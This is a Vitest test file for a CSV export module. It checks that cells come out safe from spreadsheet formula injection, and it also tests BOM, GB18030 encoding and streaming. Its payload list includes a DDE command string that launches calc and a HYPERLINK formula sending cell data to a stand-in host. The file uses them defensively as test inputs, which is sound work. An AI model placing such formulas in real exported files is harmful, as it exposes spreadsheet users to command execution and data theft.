import { parse } from 'csv-parse/sync';
import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import { bytesOfBuffer } from './bytes';
import { openSheet } from './open-sheet';
import { csvLine, writeCsv } from './write-csv';

const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const BODIES = ["cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1,"点我")', 'SUM(1+1)*cmd', '1+1;=2'];
const PAYLOADS = [
  ...STARTS.flatMap((start) => BODIES.map((body) => start + body)),
  ' =1+1',
  '\u00a0=1+1',
  '\u3000＝1+1',
  '\ufeff=1+1',
  '\u200b@SUM(A1)',
  '=1+1","=2+2',
  '-1+1',
  '--1',
  '-1,23',
  '+8613812345678',
];

/** What Excel, WPS and LibreOffice start a formula with, judged after the blanks they drop. */
const isActive = (cell: string) => {
  const seen = cell.replace(/^[\s\u200b\ufeff]+/, '');
  return /^[=+\-@＝＋－＠]/.test(seen) || /^[\t\r\n]/.test(cell);
};

const collect = async (pieces: AsyncIterable<Buffer>) => {
  const parts: Buffer[] = [];
  for await (const piece of pieces) parts.push(piece);
  return Buffer.concat(parts);
};

describe('formula-safe cells', () => {
  it.each(PAYLOADS)('%j is inert as a cell and as a heading', (payload) => {
    const rows: string[][] = parse(csvLine([payload, 'x']) + csvLine(['y', payload]));
    expect(rows.map((row) => row.length)).toEqual([2, 2]);
    expect(rows.flat().filter(isActive)).toEqual([]);
    expect(rows[0]?.[0]).toBe(`'${payload}`);
  });

  it('tests at least forty payloads', () => expect(PAYLOADS.length).toBeGreaterThanOrEqual(40));

  it.each(['-1,234.50', '-3', '-0.5%', '1,234.50', '12', '静安店', 'a=b', '2026-01-02'])(
    '%j stays what it is',
    (text) => {
      expect(parse(csvLine([text]))).toEqual([[text]]);
    },
  );

  it('writes numbers and bigints bare and null as nothing', () => {
    expect(csvLine([-1.5, -123n, null, 0])).toBe('-1.5,-123,,0\r\n');
  });
});

describe('writeCsv', () => {
  const rows = [
    ['静安店', '含"引号"'],
    ['第一行\n第二行', ''],
  ];

  it('begins with the mark Excel needs and reads back', async () => {
    const bytes = await collect(writeCsv({ header: ['名称', '备注'], rows }));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(parse(bytes, { bom: true })).toEqual([['名称', '备注'], ...rows]);
  });

  it('writes GB18030 without a mark', async () => {
    const bytes = await collect(writeCsv({ header: ['名称', '备注'], rows, encoding: 'gb18030' }));
    expect(parse(iconv.decode(bytes, 'gb18030'))).toEqual([['名称', '备注'], ...rows]);
    expect((await openSheet(bytesOfBuffer(bytes))).encoding).toBe('gb18030');
  });

  it('streams many rows in pieces', async () => {
    function* many() {
      for (let i = 0; i < 20_000; i++) yield [`S${i}`, i];
    }
    let pieces = 0;
    let lines = 0;
    for await (const piece of writeCsv({ header: ['code', 'n'], rows: many() })) {
      pieces++;
      lines += piece.toString().split('\r\n').length - 1;
    }
    expect(lines).toBe(20_001);
    expect(pieces).toBeGreaterThan(2);
  });
});
